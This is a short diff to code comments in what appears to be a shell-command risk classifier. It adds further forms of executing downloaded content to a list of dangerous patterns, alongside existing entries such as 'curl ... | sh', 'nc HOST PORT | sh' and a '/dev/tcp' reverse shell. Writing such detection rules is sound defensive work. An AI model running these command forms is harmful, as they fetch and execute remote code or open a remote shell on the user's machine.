@@ -236,7 +236,9 @@
 //   - A command name that is not a literal word ($X, $(...), a glob, a brace
 //     expansion) is at least Defaults.DynamicCommand (Dangerous).
 //   - Executing downloaded content (curl ... | sh, bash <(wget ...),
-//     eval "$(curl ...)", curl ... | tee >(bash), nc HOST PORT | sh, sh <
+//     eval "$(curl ...)", curl ... | tee >(bash), { curl ...; } > >(sh),
+//     a descriptor kept on a shell on a line that downloads (exec 3>
+//     >(sh); curl ... >&3, coproc sh), nc HOST PORT | sh, sh <
 //     /dev/tcp/HOST/PORT, the reverse shell bash -i >& /dev/tcp/HOST/PORT
 //     0>&1, a file of a repository the line cloned (git clone, gh repo
 //     clone, hg clone, svn checkout, git submodule add): git clone URL r
